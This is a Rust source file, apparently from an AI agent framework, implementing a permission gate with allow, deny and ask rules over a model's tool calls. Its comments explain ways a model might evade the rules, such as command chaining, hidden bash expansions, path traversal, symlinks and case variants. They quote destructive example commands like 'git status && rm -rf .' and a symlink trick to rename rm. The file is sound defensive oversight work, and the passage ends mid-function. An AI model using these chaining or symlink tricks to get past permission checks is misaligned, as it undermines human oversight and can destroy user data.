//! The permission gate: once per turn, after validation and before any tool of the batch starts,
//! it sees the whole batch and answers each call: allow, deny (with a reason), or ask a human.
//!
//! Rules live in a [`PermissionStore`], by tool name and, where it helps, by the shape of the
//! arguments (a command prefix, a path glob), with a fallback. "Always" answers are saved to the
//! store, and through its [`SaveRules`] (a file, in the CLI) across runs; the core does no file
//! I/O. An [`ApprovalPrompter`] is asked about all the calls of a batch that need asking at once,
//! so a prompt never races a running tool, and with the run's cancellation, so a prompt nobody
//! answers ends with the run ([`ApprovalPrompter::ask_until`]).
//!
//! A model chooses the arguments, so the rules are written not to be talked around: a deny rule
//! always wins, an "always" answer never settles an argument rule that asks, a rule about some
//! calls of a tool never loosens what its other calls get (they are asked about, see
//! [`PermissionStore::unmatched`]), paths are compared after resolving `..` against a root and,
//! with a tool's own [`ResolvePaths`], after following links as the tool does, and a command
//! chained with `;`, `&&`, `|` and the like is never admitted by an allow prefix.
//! [`PermissionStore::decide`] says the order. A recorded answer is for the call it was given
//! for (its id, tool and arguments) and is used once ([`crate::gate::Approvals`]).

use std::borrow::Cow;
use std::path::{Component, Path, PathBuf};
use std::sync::{Arc, Mutex};

use futures::future::BoxFuture;
use serde::{Deserialize, Serialize};
use serde_json::Value;
use tokio_util::sync::CancellationToken;

use crate::error::RunError;
pub use crate::gate::{Answer, ApprovalRequest};
use crate::gate::{Approvals, Gate, GateContext};
use crate::machine::{AdmittedCall, Verdict};

mod command;
#[cfg(test)]
mod escapes;
mod input;
mod reads;
mod resolve;
use command::*;
use reads::chain_runs_with_words;
pub use resolve::{FileText, READ_LIMIT, ResolvePaths};

/// What the rules say about a call.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Permission {
    /// Run it.
    Allow,
    /// Ask a human.
    Ask,
    /// Do not run it.
    Deny,
}

/// What in a command joins a second command to the first, or sends it somewhere else: `;`, `&`
/// (and `&&`), `|` (and `||`), a backtick, `$(`, a redirection `>` or `<`, a newline. Checked
/// anywhere in the command, quotes included: a quoted `;` makes a command look chained too,
/// which at worst asks about a command that an allow rule would have run.
const CHAINING: &[&str] = &[";", "&", "|", "`", "$(", ">", "<", "\n", "\r"];

/// A match on the arguments of a call.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum ArgumentMatch {
    /// The argument `field` (a string, or an array of strings joined by spaces) starts with the
    /// words of `prefix`, whole words only: `git status` matches `git status -s`, not
    /// `git statusx`. A command chained with another (see [`ArgumentMatch::is_chained`]) never
    /// matches an allow rule unless `allow_chaining` is set; a deny or ask rule also matches when
    /// any chained part of the command starts with its prefix.
    CommandPrefix {
        /// The argument holding the command.
        field: String,
        /// The prefix.
        prefix: String,
        /// An allow rule also admits the command chained with others (`git status && rm -rf .`);
        /// off by default.
        #[serde(default, skip_serializing_if = "std::ops::Not::not")]
        allow_chaining: bool,
    },
    /// The argument `field` (a path) matches a glob (`*` within a segment, `**` across them),
    /// compared after resolving the path lexically against the store's root (see
    /// [`PermissionStore::root`]). A path outside the root never matches an allow rule.
    PathGlob {
        /// The argument holding the path.
        field: String,
        /// The glob.
        glob: String,
    },
}

impl ArgumentMatch {
    /// True when a command joins another command to itself or redirects: any of `;`, `&`, `|`, a
    /// backtick, `$(`, `>`, `<` or a line break, anywhere in it; or when it holds an expansion
    /// that runs code in bash (a `${…}` that is more than a plain name, `$((…))`, `$[…]`), which
    /// can hide a second command where none of those can be seen.
    pub fn is_chained(command: &str) -> bool {
        CHAINING.iter().any(|c| command.contains(c)) || runs_hidden_code(command)
    }

    fn matches(&self, args: &Value, permission: Permission, paths: Paths<'_>) -> bool {
        match self {
            ArgumentMatch::CommandPrefix {
                field,
                prefix,
                allow_chaining,
            } => {
                let Some(command) = string_arg(args, field) else {
                    return false;
                };
                if permission == Permission::Allow {
                    let mut parts = command.split(|c: char| CHAIN_SPLIT.contains(c));
                    (*allow_chaining || !Self::is_chained(&command))
                        && parts
                            .next()
                            .is_some_and(|first| starts_with_words(first, prefix))
                } else {
                    // Whatever an allow rule would refuse to look behind, a deny or ask rule
                    // looks at: each part of the chain, and the command each part really runs.
                    chain_runs_with_words(&command, prefix, paths.resolver)
                }
            }
            ArgumentMatch::PathGlob { field, glob } => {
                let Some(path) = string_arg(args, field) else {
                    return false;
                };
                let compiled = compile_path_glob(glob, permission);
                path_matches(compiled.as_ref(), &path, permission, paths)
            }
        }
    }
}

/// A path rule's glob, compiled for a rule of `permission`; `None` when it cannot be.
/// `Glob::compile_matcher` panics when the glob's regex is too large to compile (a glob of
/// megabytes); a set returns the error.
///
/// A `deny` or `ask` glob ignores case and Unicode normalization: on a file system that does
/// (macOS's by default, a Windows drive under WSL, a FAT or SMB mount) `SECRETS/key.pem` is the
/// file `secrets/**` covers, and `Été/x` (composed or not) the file `été/**` covers, and a path
/// argument keeps the spelling it was given in (as does its resolution on Linux). Such a glob is
/// compiled from its [`fold_name`] form, and matched against the folded forms of a path
/// ([`path_matches`]); globset's own case folding covers ASCII only. Matching a name that differs
/// only in case on a file system that tells them apart errs towards asking, as a deny or ask rule
/// must. An `allow` glob keeps to the spelling it was written in.
fn compile_path_glob(glob: &str, permission: Permission) -> Option<globset::GlobSet> {
    let caseless = permission != Permission::Allow;
    let glob = if caseless {
        fold_name(glob)
    } else {
        Cow::Borrowed(glob)
    };
    globset::GlobBuilder::new(&glob)
        .case_insensitive(caseless)
        .literal_separator(true)
        .build()
        .ok()
        .and_then(|g| globset::GlobSetBuilder::new().add(g).build().ok())
}

/// True when a path rule's glob (`None`: one that could not be compiled) matches the path argument
/// `path` for a rule of `permission`.
fn path_matches(
    glob: Option<&globset::GlobSet>,
    path: &str,
    permission: Permission,
    paths: Paths<'_>,
) -> bool {
    // A glob that cannot be matched matches every path for a `deny` or `ask` (never silently
    // lets a call through) and none for an `allow`.
    let Some(glob) = glob else {
        return permission != Permission::Allow;
    };
    let hit = |forms: &[String]| {
        forms.iter().any(|form| {
            if permission == Permission::Allow {
                glob.is_match(form)
            } else {
                glob.is_match(fold_name(form).as_ref())
            }
        })
    };
    let Some(resolver) = paths.resolver else {
        let resolved = ResolvedPath::new(path, paths.root);
        if resolved.outside && permission == Permission::Allow {
            return false;
        }
        return hit(&resolved.forms);
    };
    // The tool's own resolution decides what it touches: the file behind the links, under the
    // tool's root.
    let tool_root = resolver.root();
    let lexical = ResolvedPath::new(path, Some(tool_root));
    let real = resolver
        .resolve(path)
        .map(|file| ResolvedPath::resolved(&file, tool_root));
    if permission == Permission::Allow {
        // Only a file the tool would open inside its root, judged by what it is.
        return match real {
            Some(real) if !real.outside => hit(&real.forms),
            _ => false,
        };
    }
    // A deny or ask looks at every name of the file: as given, as the tool resolves it, and
    // relative to the store's root (where the rules were written).
    let mut forms = lexical.forms;
    if let Some(real) = real {
        forms.extend(real.forms);
    }
    forms.extend(ResolvedPath::new(path, paths.root).forms);
    hit(&forms)
}

/// `name` (a file name, a path or a glob) as a file system that ignores case and Unicode
/// normalization compares it (macOS's APFS by default, Windows', a Linux case-folding folder, FAT,
/// exFAT, SMB): lower case (Unicode's, not only ASCII's), in the composed form (NFC), so that
/// `AGENT.TOML`, `Agent.toml` and `agent.toml`, or `É` written composed or decomposed (as macOS
/// writes names), are one. What `deny` and `ask` path rules and a workspace's protected paths
/// compare, so that a case variant of a denied or protected file is denied or protected too:
/// over-matching there only refuses or asks more. `allow` rules never fold. Lower case is not
/// full case folding: the few letters whose folds differ from their lower case (`ſ`, `ß`
/// against `SS`) are compared as written.
pub fn fold_name(name: &str) -> Cow<'_, str> {
    use unicode_normalization::UnicodeNormalization as _;
    if name.is_ascii() {
        if name.bytes().any(|b| b.is_ascii_uppercase()) {
            return Cow::Owned(name.to_ascii_lowercase());
        }
        return Cow::Borrowed(name);
    }
    Cow::Owned(name.to_lowercase().nfc().collect())
}

/// `path` with each name folded as [`fold_name`] folds it (a name that is not UTF-8 is kept as
/// it is): what a protected path, or a folder that may hold one, is compared in, so that
/// whether one lies under another does not turn on case.
pub fn fold_path(path: &Path) -> PathBuf {
    path.components()
        .map(|c| match c.as_os_str().to_str() {
            Some(name) => std::ffi::OsString::from(fold_name(name).into_owned()),
            None => c.as_os_str().to_owned(),
        })
        .collect()
}

/// The `deny` and `ask` path rules of a store on one argument of one tool, compiled once: what a
/// tool that walks a folder (a search, a listing) judges each path it meets by, since it cannot
/// stop to ask about each one. Made by [`PermissionStore::path_rules`]; a path is judged as the
/// rules judge a call whose argument is that path ([`PermissionStore::decide`]), with the same
/// root and the tool's own [`ResolvePaths`].
#[derive(Debug, Clone)]
pub struct PathRules {
    /// Each rule's permission (deny or ask) and glob (`None`: it could not be compiled, so it
    /// matches every path).
    rules: Vec<(Permission, Option<globset::GlobSet>)>,
    root: Option<PathBuf>,
    resolver: Option<Arc<dyn ResolvePaths>>,
}

impl PathRules {
    /// True when no rule is there to match: nothing is ever withheld.
    pub fn is_empty(&self) -> bool {
        self.rules.is_empty()
    }

    /// What the rules say about a call whose argument is `path`: [`Permission::Deny`] when a
    /// deny rule matches it, else [`Permission::Ask`] when an ask rule does, else `None`.
    pub fn judge(&self, path: &str) -> Option<Permission> {
        let paths = Paths {
            root: self.root.as_deref(),
            resolver: self.resolver.as_deref(),
        };
        deny_or_ask(|wanted| {
            self.rules
                .iter()
                .any(|(p, glob)| *p == wanted && path_matches(glob.as_ref(), path, *p, paths))
        })
    }
}

/// The `deny` and `ask` command prefix rules of a store on one argument of one tool: what a
/// tool that runs commands (the built-in shell) judges its command by again as it runs, with
/// the programs its words name looked up from the folder it runs in. The gate judged the call
/// before its batch ran; another call of the batch (`ln -s /bin/rm tidy` beside `./tidy -rf
/// x`) may have made a program word lead to a program a rule covers since, and the call may
/// run in a folder (the shell's `cwd`) other than the one the gate looked in. Made by
/// [`PermissionStore::command_rules`]; a command is judged as the rules judge a call whose
/// argument is that command ([`PermissionStore::decide`]).
#[derive(Debug, Clone)]
pub struct CommandRules {
    /// Each rule's permission (deny or ask) and prefix.
    rules: Vec<(Permission, String)>,
}

impl CommandRules {
    /// True when no rule is there to match: nothing is ever refused.
    pub fn is_empty(&self) -> bool {
        self.rules.is_empty()
    }

    /// What the rules say about running `command` where `programs` finds its programs:
    /// [`Permission::Deny`] when a deny rule matches it, else [`Permission::Ask`] when an ask
    /// rule does, else `None`.
    pub fn judge(&self, command: &str, programs: Option<&dyn ResolvePaths>) -> Option<Permission> {
        deny_or_ask(|wanted| {
            self.rules
                .iter()
                .any(|(p, prefix)| *p == wanted && chain_runs_with_words(command, prefix, programs))
        })
    }
}

/// [`Permission::Deny`] when a deny rule matches (`matched(Deny)`), else [`Permission::Ask`]
/// when an ask rule does, else `None`.
fn deny_or_ask(matched: impl Fn(Permission) -> bool) -> Option<Permission> {
    if matched(Permission::Deny) {
        Some(Permission::Deny)
    } else if matched(Permission::Ask) {
        Some(Permission::Ask)
    } else {
        None
    }
}

/// What path rules resolve paths with: the store's root, and the tool's own way, when it has
/// one.
#[derive(Clone, Copy)]
struct Paths<'a> {
    root: Option<&'a Path>,
    resolver: Option<&'a dyn ResolvePaths>,
}

/// A path argument resolved lexically (no file is read, no link followed): `.` and repeated
/// separators dropped, `..` taken back against the root.
#[derive(Debug, PartialEq)]
struct ResolvedPath {
    /// The forms a glob is matched against, `/`-separated: the path relative to the root when it
    /// is inside it, its `..`-relative form when a relative path climbs out, and the absolute
    /// path when the root (or the path itself) is absolute.
    forms: Vec<String>,
    /// Outside the root: a relative path that climbs out by `..`, or an absolute path not under
    /// the root (every absolute path when there is no root).
    outside: bool,
}

impl ResolvedPath {
    fn new(path: &str, root: Option<&Path>) -> Self {
        let path = Path::new(path);
        let mut forms = Vec::new();
        if path.has_root() {
            let absolute = normalize(path);
            let inside = root.and_then(|r| absolute.strip_prefix(r).ok().map(slashed));
            forms.push(slashed(&absolute));
            let outside = inside.is_none();
            forms.extend(inside);
            return ResolvedPath { forms, outside };
        }
        // A relative path: its parts, with `..` taking back a part, or climbing out.
        let mut parts: Vec<&std::ffi::OsStr> = Vec::new();
        let mut climbed = 0usize;
        for c in path.components() {
            match c {
                Component::Normal(part) => parts.push(part),
                Component::ParentDir => {
                    if parts.pop().is_none() {
                        climbed += 1;
                    }
                }
                Component::CurDir | Component::RootDir | Component::Prefix(_) => {}
            }
        }
        let relative: PathBuf = std::iter::repeat_n(Component::ParentDir.as_os_str(), climbed)
            .chain(parts)
            .collect();
        forms.push(slashed(&relative));
        if let Some(root) = root {
            forms.push(slashed(&normalize(&root.join(&relative))));
        }
        ResolvedPath {
            forms,
            outside: climbed > 0,
        }
    }
}

impl ResolvedPath {
    /// The forms of a file a tool resolved (absolute, links followed): its absolute path, and
    /// its path relative to `root` when it is under it.
    fn resolved(file: &Path, root: &Path) -> Self {
        let inside = file.strip_prefix(root).ok().map(slashed);
        let mut forms = vec![slashed(file)];
        let outside = inside.is_none();
        forms.extend(inside);
        ResolvedPath { forms, outside }
    }
}

/// A path with `.` dropped and `..` resolved lexically; `..` at the top stays there (`/..` is `/`
/// for an absolute path).
fn normalize(path: &Path) -> PathBuf {
    let mut out = PathBuf::new();
    for c in path.components() {
        match c {
            Component::CurDir => {}
            Component::ParentDir => match out.components().next_back() {
                Some(Component::Normal(_)) => {
                    out.pop();
                }
                Some(Component::RootDir | Component::Prefix(_)) => {}
                Some(Component::ParentDir | Component::CurDir) | None => {
                    out.push(Component::ParentDir)
                }
            },
            other => out.push(other),
        }
    }
    out
}

/// A path's text with `/` between its parts, whatever the platform's separator.
fn slashed(path: &Path) -> String {
    let parts: Vec<String> = path
        .components()
        .filter_map(|c| match c {
            Component::RootDir => None,
            other => Some(other.as_os_str().to_string_lossy().into_owned()),
        })
        .collect();
    let joined = parts.join("/");
    if path.has_root() {
        format!("/{joined}")
    } else {
        joined
    }
}

fn string_arg(args: &Value, field: &str) -> Option<String> {
    match args.get(field)? {
        Value::String(s) => Some(s.clone()),
        Value::Array(items) => {
            let parts: Option<Vec<&str>> = items.iter().map(Value::as_str).collect();
            parts.map(|p| p.join(" "))
        }
        _ => None,
    }
}

/// The stricter of two permissions: deny, then ask, then allow.
fn stricter(a: Permission, b: Permission) -> Permission {
    let rank = |p: Permission| match p {
        Permission::Allow => 0,
        Permission::Ask => 1,
        Permission::Deny => 2,
    };
    if rank(a) >= rank(b) { a } else { b }
}

/// One rule: a tool name (`*` for any), an optional argument match, and what to do.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct PermissionRule {
    /// The tool, or `*`.
    pub tool: String,
    /// A match on the arguments; `None` matches every call of the tool.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub arguments: Option<ArgumentMatch>,
    /// What to do.
    pub permission: Permission,
}

impl PermissionRule {
    /// A rule on the calls of `tool` whose `command` argument runs `prefix` (whole words, any
    /// command of a chain): the shape of `deny = ["rm"]` in an agent file's shell rules.
    pub fn command_prefix(
        tool: impl Into<String>,
        prefix: impl Into<String>,
        permission: Permission,
    ) -> Self {
        PermissionRule {
            tool: tool.into(),
            arguments: Some(ArgumentMatch::CommandPrefix {
                field: "command".into(),
                prefix: prefix.into(),
                allow_chaining: false,
            }),
            permission,
        }
    }

    fn applies(&self, tool: &str, args: &Value, paths: Paths<'_>) -> bool {
        (self.tool == "*" || self.tool == tool)
            && self
                .arguments
                .as_ref()
                .is_none_or(|m| m.matches(args, self.permission, paths))
    }

    /// True when the rule is for every call of exactly `tool`: the shape of an "always" answer.
    fn is_whole(&self, tool: &str) -> bool {
        self.tool == tool && self.arguments.is_none()
    }
}

/// Permission rules with a fallback, optionally backed by a file where "always" answers are kept.
#[derive(Debug, Clone)]
pub struct PermissionStore {
    /// The store's own rules: those it was opened with, added, or learned from answers.
    rules: Vec<PermissionRule>,
    /// The own rules added or learned since the store was opened: what a save merges into the
    /// file, so that a rule another process saved meanwhile is never overwritten by a stale one.
    learned: Vec<PermissionRule>,
    /// Rules from configuration: decided on like the others, never written to the file.
    configured: Vec<PermissionRule>,
    /// Tools' own defaults (a built-in shell asks): what a call of the tool gets when no rule
    /// names the whole tool, instead of the fallback.
    tool_defaults: std::collections::HashMap<String, Permission>,
    fallback: Permission,
    root: Option<PathBuf>,
    /// How each tool resolves paths (`*`: every tool without its own).
    resolvers: std::collections::HashMap<String, Arc<dyn ResolvePaths>>,
    saver: Option<Arc<dyn SaveRules>>,
}

/// A permission store could not be read or written.
#[derive(Debug, Clone, thiserror::Error)]
#[error("permission store {path}: {message}")]
pub struct PermissionStoreError {
    /// The file.
    pub path: String,
    /// What went wrong.
    pub message: String,
}

/// Where a [`PermissionStore`] keeps what it learns, so that an "always" answer outlives the
/// run (the CLI saves to a file, under a lock, atomically).
pub trait SaveRules: Send + Sync + std::fmt::Debug {
    /// Saves the rules the store learned since it was opened (its answers, and rules added with
    /// [`PermissionStore::add`] or [`PermissionStore::set`]), not those it was opened with. An
    /// implementation shared between processes merges them into what it keeps: each replaces a
    /// kept rule of the same tool and arguments, and every other kept rule stays (another process
    /// may have saved it meanwhile).
    fn save(&self, rules: &[PermissionRule]) -> Result<(), PermissionStoreError>;
}

impl PermissionStore {
    /// An in-memory store with a fallback for calls no rule covers.
    pub fn new(fallback: Permission) -> Self {
        PermissionStore {
            rules: Vec::new(),
            learned: Vec::new(),
            configured: Vec::new(),
            tool_defaults: std::collections::HashMap::new(),
            fallback,
            root: None,
            resolvers: std::collections::HashMap::new(),
            saver: None,
        }
    }

    /// A store holding rules saved by an earlier run, which saves what it learns through
    /// `saver` (the CLI keeps a JSON file).
    pub fn with_saved(
        rules: Vec<PermissionRule>,
        fallback: Permission,
        saver: Arc<dyn SaveRules>,
    ) -> Self {
        PermissionStore {
            rules,
            saver: Some(saver),
            ..PermissionStore::new(fallback)
        }
    }

    /// Sets the root that path rules resolve relative paths against (the CLI gives the agent
    /// file's folder; give an absolute path). A path that climbs out of it by `..`, or an absolute
    /// path not under it, never matches an allow rule; deny and ask rules still match it, by its
    /// `..`-relative and its absolute form. Without a root, relative paths resolve against an
    /// unnamed one and every absolute path counts as outside.
    pub fn root(&mut self, root: impl AsRef<Path>) -> &mut Self {
        self.root = Some(normalize(root.as_ref()));
        self
    }

    /// Gives path rules a tool's own way of resolving paths (`*` for every tool without one of
    /// its own). With it, an allow path rule admits only a file the tool would open inside its
    /// root, matched by its path there (links followed); a deny or ask rule matches the path as
    /// given, as the tool resolves it, or relative to [`root`](Self::root).
    pub fn resolve_paths(
        &mut self,
        tool: impl Into<String>,
        resolver: Arc<dyn ResolvePaths>,
    ) -> &mut Self {
        self.resolvers.insert(tool.into(), resolver);
        self
    }

    /// Adds a rule.
    pub fn add(&mut self, rule: PermissionRule) -> &mut Self {
        self.rules.push(rule.clone());
        self.learned.push(rule);
        self
    }

    /// Adds a rule for every call of a tool.
    pub fn set(&mut self, tool: impl Into<String>, permission: Permission) -> &mut Self {
        self.add(PermissionRule {
            tool: tool.into(),
            arguments: None,
            permission,
        })
    }

    /// Adds a rule from configuration (an application's settings, an agent file): it is decided
    /// on like any other rule but never written to the store's file, which keeps only the rules
    /// added with [`add`](Self::add) or [`set`](Self::set) and the answers remembered there.
    pub fn configure(&mut self, rule: PermissionRule) -> &mut Self {
        self.configured.push(rule);
        self
    }

    /// Sets a tool's own default: what its calls get when no rule names the whole tool (in
    /// `allow`, `ask`, `deny` or a rule without an argument match; a `*` rule does not name it),
    /// instead of the fallback. The CLI gives the built-in shell's `ask` this way, so that a
    /// rule about some of its commands never turns the ask off for the others.
    pub fn tool_default(&mut self, tool: impl Into<String>, permission: Permission) -> &mut Self {
        self.tool_defaults.insert(tool.into(), permission);
        self
    }

    /// The rules (those a file-backed store saves; configured rules are apart).
    pub fn rules(&self) -> &[PermissionRule] {
        &self.rules
    }

    /// The rules from configuration.
    pub fn configured(&self) -> &[PermissionRule] {
        &self.configured
    }

    /// The fallback.
    pub fn fallback(&self) -> Permission {
        self.fallback
    }

    /// The `deny` and `ask` path rules, saved or configured, that apply to the argument `field`
    /// of `tool` (rules for `tool` or `*`), compiled, with the root and the tool's way of
    /// resolving paths: what a tool that walks folders leaves out of what it finds. Allow rules
    /// are not in it: a walk judges nothing it could be allowed to see.
    pub fn path_rules(&self, tool: &str, field: &str) -> PathRules {
        let rules = self
            .deny_and_ask(tool, |m| match m {
                ArgumentMatch::PathGlob { field: f, glob } if f == field => Some(glob),
                _ => None,
            })
            .into_iter()
            .map(|(p, glob)| (p, compile_path_glob(&glob, p)))
            .collect();
        PathRules {
            rules,
            root: self.root.clone(),
            resolver: self
                .resolvers
                .get(tool)
                .or_else(|| self.resolvers.get("*"))
                .cloned(),
        }
    }

    /// The `deny` and `ask` command prefix rules, saved or configured, that apply to the argument
    /// `field` of `tool` (rules for `tool` or `*`): what a tool that runs commands judges its
    /// command by again as it runs ([`CommandRules`]). Allow rules are not in it: the gate
    /// already let the call through.
    pub fn command_rules(&self, tool: &str, field: &str) -> CommandRules {
        let rules = self.deny_and_ask(tool, |m| match m {
            ArgumentMatch::CommandPrefix {
                field: f, prefix, ..
            } if f == field => Some(prefix),
            _ => None,
        });
        CommandRules { rules }
    }

    /// The `deny` and `ask` rules, saved or configured, for `tool` or `*`, each with what `pick`
    /// takes of its argument match (rules it takes nothing of are left out).
    fn deny_and_ask<'s>(
        &'s self,
        tool: &str,
        pick: impl Fn(&'s ArgumentMatch) -> Option<&'s String>,
    ) -> Vec<(Permission, String)> {
        self.rules
            .iter()
            .chain(&self.configured)
            .filter(|r| r.permission != Permission::Allow && (r.tool == "*" || r.tool == tool))
            .filter_map(|r| {
                let taken = r.arguments.as_ref().and_then(&pick)?;
                Some((r.permission, taken.clone()))
            })
            .collect()
    }

    /// What the rules say about a call, in this order:
    ///
    /// 1. any deny rule that matches, configured or saved, on the tool or on its arguments: deny;
    /// 2. any ask rule on the arguments that matches: ask (an "always" answer never settles it);
    /// 3. the store's own rule for every call of exactly this tool (an "always" answer): what it
    ///    says; it settles a configured ask for the whole tool;
    /// 4. any other ask rule that matches (for the tool, or `*`): ask;
    /// 5. any allow rule on the arguments that matches, then an allow rule for the whole tool:
    ///    allow;
    /// 6. what a call no rule matches gets ([`PermissionStore::unmatched`]).
    pub fn decide(&self, tool: &str, args: &Value) -> Permission {
        self.decide_with(tool, Some(args))
    }

    /// What a call of `tool` that no argument rule matches gets: [`decide`](Self::decide)
    /// without the argument rules. When no rule names the whole tool, that is the tool's own
    /// default ([`tool_default`](Self::tool_default)), else a `*` allow rule's allow, else the
    /// fallback; and when rules on the tool's arguments (not `*` ones) exist, never less than
    /// ask: a rule about some calls of a tool never loosens what its other calls get.
    pub fn unmatched(&self, tool: &str) -> Permission {
        self.decide_with(tool, None)
    }

    /// [`decide`](Self::decide) on these arguments, or with no argument rule matching (`None`).
    fn decide_with(&self, tool: &str, args: Option<&Value>) -> Permission {
        let paths = Paths {
            root: self.root.as_deref(),
            resolver: self
                .resolvers
                .get(tool)
                .or_else(|| self.resolvers.get("*"))
                .map(|r| &**r),
        };
        let all = || self.rules.iter().chain(&self.configured);
        let applies = |r: &PermissionRule| match args {
            Some(args) => r.applies(tool, args, paths),
            None => r.arguments.is_none() && (r.tool == "*" || r.tool == tool),
        };
        let any = |wanted: Permission, on_arguments: bool| {
            all().any(|r| {
                r.permission == wanted && (!on_arguments || r.arguments.is_some()) && applies(r)
            })
        };
        if any(Permission::Deny, false) {
            return Permission::Deny;
        }
        if any(Permission::Ask, true) {
            return Permission::Ask;
        }
        if let Some(answer) = self.rules.iter().rev().find(|r| r.is_whole(tool)) {
            return answer.permission;
        }
        if any(Permission::Ask, false) {
            return Permission::Ask;
        }
        if any(Permission::Allow, true)
            || all().any(|r| r.permission == Permission::Allow && r.is_whole(tool))
        {
            return Permission::Allow;
        }
        // No rule names the whole tool: its own default, or what covers every tool.
        let base = match self.tool_defaults.get(tool) {
            Some(own) => *own,
            None if all().any(|r| r.permission == Permission::Allow && r.is_whole("*")) => {
                Permission::Allow
            }
            None => self.fallback,
        };
        let argued = all().any(|r| r.tool == tool && r.arguments.is_some());
        if argued {
            stricter(base, Permission::Ask)
        } else {
            base
        }
    }

    /// Records an "always" answer for a tool and saves the store when it has a file. The store's
    /// older rule for the whole tool is replaced; configured rules stay as they are, and
    /// [`decide`](Self::decide) says which wins (a deny, and an ask on the arguments, still do).
    pub fn remember(
        &mut self,
        tool: &str,
        permission: Permission,
    ) -> Result<(), PermissionStoreError> {
        self.rules.retain(|r| !r.is_whole(tool));
        self.learned.retain(|r| !r.is_whole(tool));
        let answer = PermissionRule {
            tool: tool.to_owned(),
            arguments: None,
            permission,
        };
        self.rules.push(answer.clone());
        self.learned.push(answer);
        self.save()
    }

    /// [`remember`](Self::remember) for this store's life only, never saved: an "always"
    /// answer the run's journal recorded, taken again by the process that resumes the run.
    pub(crate) fn recall(&mut self, tool: &str, permission: Permission) {
        self.rules.retain(|r| !r.is_whole(tool));
        self.rules.push(PermissionRule {
            tool: tool.to_owned(),
            arguments: None,
            permission,
        });
    }

    fn save(&self) -> Result<(), PermissionStoreError> {
        match &self.saver {
            Some(saver) => saver.save(&self.learned),
            None => Ok(()),
        }
    }
}

/// The reason the asked calls of a batch are denied when the run is cancelled (or its deadline
/// passes) while the person is being asked.
pub const CANCELLED_REASON: &str = "the run was cancelled before this call started";

/// Asks a human about calls, all of a batch at once.
///
/// The [`PermissionGate`] asks through [`ask_until`](Self::ask_until), with the run's
/// cancellation ([`GateContext::cancel`]): a prompt nobody answers ends when the run is
/// cancelled or its deadline passes. A cancelled prompt answers `Err` with [`CANCELLED_REASON`]:
/// the gate denies the asked calls with it and remembers nothing (no "always" answer is saved).
/// In a run the driver stops at the same cancellation, so the run ends `cancelled` and its
/// calls are reported as not run. A prompter implements [`ask`](Self::ask) only, and is
/// cancellable as it is; one with something to tidy when it is given up (a half-written
/// prompt line) overrides `ask_until` as well.
pub trait ApprovalPrompter: Send + Sync {
    /// One answer per request, in order; `Err` denies them all with that reason.
    fn ask<'a>(
        &'a self,
        requests: &'a [ApprovalRequest],
    ) -> BoxFuture<'a, Result<Vec<Answer>, String>>;

    /// [`ask`](Self::ask), given up when `cancel` fires: then `Err` with [`CANCELLED_REASON`].
    /// A token already cancelled asks nobody.
    fn ask_until<'a>(
        &'a self,
        requests: &'a [ApprovalRequest],
        cancel: &'a CancellationToken,
    ) -> BoxFuture<'a, Result<Vec<Answer>, String>> {
        // Checked before `ask` is called: a prompter may act as it is called, before its
        // future is polled (record the requests, tell a client).
        if cancel.is_cancelled() {
            return Box::pin(async { Err(CANCELLED_REASON.to_owned()) });
        }
        let asked = self.ask(requests);
        Box::pin(async move {
            tokio::select! {
                biased;
                () = cancel.cancelled() => Err(CANCELLED_REASON.to_owned()),
                got = asked => got,
            }
        })
    }
}

/// A prompter that answers the same for every request (`--yes`, tests).
#[derive(Debug, Clone, Copy)]
pub struct FixedAnswer(pub Answer);

impl ApprovalPrompter for FixedAnswer {
    fn ask<'a>(
        &'a self,
        requests: &'a [ApprovalRequest],
    ) -> BoxFuture<'a, Result<Vec<Answer>, String>> {
        let answers = vec![self.0; requests.len()];
        Box::pin(async move { Ok(answers) })
    }
}

/// The gate: a store of rules and, for calls that need asking, a prompter.
pub struct PermissionGate {
    store: Mutex<PermissionStore>,
    prompter: Option<Arc<dyn ApprovalPrompter>>,
    unattended_reason: String,
}

impl std::fmt::Debug for PermissionGate {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("PermissionGate")
            .field("prompter", &self.prompter.is_some())
            .finish_non_exhaustive()
    }
}

impl PermissionGate {
    /// A gate over a store. Without a prompter, a call that needs asking is denied.
    pub fn new(store: PermissionStore) -> Self {
        PermissionGate {
            store: Mutex::new(store),
            prompter: None,
            unattended_reason: "approval is required and nobody can be asked".into(),
        }
    }

    /// Sets the prompter.
    #[must_use]
    pub fn with_prompter(mut self, prompter: Arc<dyn ApprovalPrompter>) -> Self {
        self.prompter = Some(prompter);
        self
    }

    /// The reason given when a call needs asking and there is no prompter.
    #[must_use]
    pub fn unattended_reason(mut self, reason: impl Into<String>) -> Self {
        self.unattended_reason = reason.into();
        self
    }

    /// A copy of the store as it is now.
    pub fn store(&self) -> PermissionStore {
        self.store.lock().unwrap_or_else(|p| p.into_inner()).clone()
    }
}

impl PermissionGate {
    /// Remembers the "always" answers a resumed run's journal recorded (once a run: the first
    /// batch the gate sees takes them), without saving them: each process that goes on with
    /// the run has a new gate, and without a store file the answer lived only in the gate of
    /// the process that took it. A tool answered for a call of `calls` is left to that call's
    /// own answer, the newest.
    fn recall_always(&self, approvals: &Approvals, calls: &[AdmittedCall], agent: &str) {
        let recorded = approvals.take_always(agent);
        if recorded.is_empty() {
            return;
        }
        let answered_here: Vec<&str> = recorded
            .iter()
            .filter(|r| calls.iter().any(|c| *c.call_id == *r.call_id))
            .map(|r| r.tool.as_str())
            .collect();
        let mut store = self.store.lock().unwrap_or_else(|p| p.into_inner());
        for r in &recorded {
            if answered_here.contains(&r.tool.as_str()) {
                continue;
            }
            let permission = match r.answer {
                Answer::DenyAlways => Permission::Deny,
                _ => Permission::Allow,
            };
            store.recall(&r.tool, permission);
        }
    }

    /// The human's answers to the `asked` calls: a denial becomes the call's verdict, an allow
    /// [`Verdict::Approved`] (a person allowed this very call), and an "always" is remembered
    /// in the store for the tool.
    fn apply_answers(
        &self,
        calls: &[AdmittedCall],
        asked: &[usize],
        replies: Vec<Option<Answer>>,
        answers: &mut [Verdict],
    ) -> Result<(), RunError> {
        let mut store = self.store.lock().unwrap_or_else(|p| p.into_inner());
        for (&i, answer) in asked.iter().zip(replies) {
